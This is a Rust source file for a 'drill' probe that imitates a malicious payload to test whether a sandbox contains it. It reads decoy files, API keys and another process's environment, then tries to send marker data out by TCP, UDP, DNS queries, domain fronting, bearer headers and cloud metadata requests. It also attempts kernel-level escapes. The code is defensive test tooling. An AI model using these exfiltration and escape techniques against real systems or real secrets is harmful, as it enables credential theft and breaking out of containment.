//! The probe: what the payload did, without the harm. It reads decoys, writes the line `# DRILL`, sends the word DRILL, and
//! notes the digest of what it could read in the one file that it may always write.

use std::collections::BTreeMap;
use std::fs;
use std::io::Write as _;
use std::net::{IpAddr, SocketAddr, TcpStream, ToSocketAddrs as _, UdpSocket};
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::time::Duration;

use serde::{Deserialize, Serialize};

use super::host;
use crate::gate::runtime::plan::digest;

/// What the probe is told: where everything is.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Script {
    /// Decoys, by row.
    pub read: BTreeMap<String, PathBuf>,
    /// Files to plant, by row.
    pub write: BTreeMap<String, PathBuf>,
    /// TCP collectors, by row.
    pub tcp: BTreeMap<String, SocketAddr>,
    /// The collector of datagrams.
    pub udp: SocketAddr,
    /// The collector of names.
    pub sink: SocketAddr,
    /// Hosts with names, by row.
    pub named: BTreeMap<String, Named>,
    /// The host that repeats what it is sent, over TLS.
    pub echo: Named,
    /// A host with a name that looks like the allowed one's, over TLS.
    pub lookalike: Named,
    /// Processes that are started at a time.
    pub forks: usize,
    /// Whether names are asked for at all: outside of a run nobody has them, and no question may leave the machine.
    pub names: bool,
    /// Where metadata is asked for.
    pub metadata: Vec<SocketAddr>,
    /// The decoy bus.
    pub bus: PathBuf,
    /// A process outside, which holds a decoy in its environment.
    pub outside: i32,
    /// Where the findings go.
    pub findings: PathBuf,
}

/// A host by name, and where it stands: bare, the probe goes there.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Named {
    /// The name.
    pub host: String,
    /// The address.
    pub stands: SocketAddr,
}

/// The variable whose value the probe sends where it does not belong.
pub const KEY: &str = "DRILL_API_KEY";
/// The name that a request has for another host than the connection is for.
pub const FRONTED: &str = "fronted.drill.test";
/// A name below the collector's, with the word in it.
const CARRIER: &str = "DRILL.sink.drill.test";

/// The program.
pub fn main(script: &Path) -> ExitCode {
    let script = fs::read(script).ok().and_then(|text| serde_json::from_slice::<Script>(&text).ok());
    match script.map(|script| (act(&script), script.findings)) {
        Some((findings, path)) if fs::write(&path, findings.join("\n")).is_ok() => ExitCode::SUCCESS,
        _ => ExitCode::FAILURE,
    }
}

/// Lines `row digest` for what was read, `row yes` for what the kernel let happen.
#[expect(clippy::disallowed_methods, reason = "the probe tries what a payload tries; it has no other way out")]
fn act(script: &Script) -> Vec<String> {
    let mut findings = Vec::new();
    for (row, path) in &script.read {
        if let Ok(content) = fs::read(path) {
            findings.push(format!("{row} {}", digest(&content)));
        }
    }
    if let Some(key) = std::env::var_os("OPENAI_API_KEY") {
        findings.push(format!("environment {}", digest(key.as_encoded_bytes())));
    }
    if let Some(secret) = environment_of(script.outside) {
        findings.push(format!("environ {}", digest(&secret)));
    }
    for path in script.write.values() {
        let made = path.parent().map_or(Ok(()), fs::create_dir_all);
        if made.is_ok()
            && let Ok(mut file) = fs::OpenOptions::new().create(true).append(true).open(path)
        {
            // Judged by the disk.
            drop(file.write_all(b"# DRILL\n"));
        }
    }
    for to in script.tcp.values() {
        if let Ok(mut stream) = TcpStream::connect_timeout(to, Duration::from_secs(2)) {
            drop(stream.write_all(b"DRILL"));
        }
    }
    if let Ok(socket) = UdpSocket::bind("127.0.0.1:0") {
        drop(socket.send_to(b"DRILL", script.udp));
    }
    if let Ok(socket) = UdpSocket::bind("127.0.0.1:0") {
        drop(socket.send_to(&question(CARRIER), script.sink));
    }
    // Inside a run a name is answered with a stand-in of 198.18.0.0/15; anything else was asked for outside.
    if script.names
        && resolve(CARRIER).iter().any(|to| !matches!(to.ip(), IpAddr::V4(ip) if ip.octets()[..2] == [198, 18]))
    {
        findings.push("dns yes".to_owned());
    }
    for (row, Named { host, stands }) in &script.named {
        let more = match (row.as_str(), std::env::var(KEY)) {
            ("key", Ok(key)) => format!("authorization: Bearer {key}\r\n"),
            ("key", Err(_)) => continue,
            _ => String::new(),
        };
        let mut ways = if script.names { resolve(host) } else { Vec::new() };
        ways.push(*stands);
        for to in ways {
            // Judged by what the host received.
            drop(host::send(to, host, "POST /", &more, "DRILL"));
        }
    }
    let over_tls = |Named { host, stands }: &Named| {
        let ways = if script.names { resolve(host) } else { Vec::new() };
        ways.into_iter().map(|to| SocketAddr::new(to.ip(), 443)).chain([*stands]).collect::<Vec<_>>()
    };
    for to in over_tls(&script.lookalike) {
        drop(host::send_tls(to, &script.lookalike.host, "POST /", "", "DRILL"));
    }
    for to in over_tls(&script.echo) {
        drop(host::fronted(to, &script.echo.host, FRONTED, "POST /", "", "DRILL"));
    }
    if let Ok(key) = std::env::var(KEY) {
        let host = &script.echo.host;
        for to in over_tls(&script.echo) {
            let said = host::send_tls(to, host, "GET /v1/", &format!("authorization: Bearer {key}\r\n"), "");
            let said = said.map(|(_, body)| String::from_utf8_lossy(&body).into_owned()).unwrap_or_default();
            if let Some(repeated) = said.lines().find_map(|line| line.split_once("Bearer ")) {
                findings.push(format!("echo {}", digest(repeated.1.trim().as_bytes())));
            }
        }
    }
    for to in &script.metadata {
        if let Some((200, body)) = host::send(*to, "169.254.169.254", "GET /latest/meta-data/", "", "") {
            findings.push(format!("metadata {}", digest(&body)));
        }
    }
    if let Ok(mut stream) = UnixStream::connect(&script.bus) {
        drop(stream.write_all(b"DRILL"));
    }
    for (row, happened) in [
        ("io-uring", bulkhead_contain::drill::ring()),
        ("keyctl", bulkhead_contain::drill::session_keys()),
        ("namespace", bulkhead_contain::drill::user_namespace()),
        ("signal", bulkhead_contain::drill::may_signal(script.outside)),
        ("forks", bulkhead_contain::drill::forks(script.forks) == script.forks),
    ] {
        if happened {
            findings.push(format!("{row} yes"));
        }
    }
    findings
}

fn environment_of(process: i32) -> Option<Vec<u8>> {
    let environment = fs::read(format!("/proc/{process}/environ")).ok()?;
    let mut variables = environment.split(|byte| *byte == 0);
    variables.find_map(|variable| variable.strip_prefix(b"DRILL_DECOY=")).map(<[u8]>::to_vec)
}

fn resolve(host: &str) -> Vec<SocketAddr> {
    (host, 80).to_socket_addrs().map(Iterator::collect).unwrap_or_default()
}

/// A question for the address of that name (RFC 1035, 4.1).
fn question(name: &str) -> Vec<u8> {
    let mut message = vec![0xd7, 0x11, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        message.extend(u8::try_from(label.len()));
        message.extend(label.as_bytes());
    }
    message.extend([0, 0, 1, 0, 1]);
    message
}
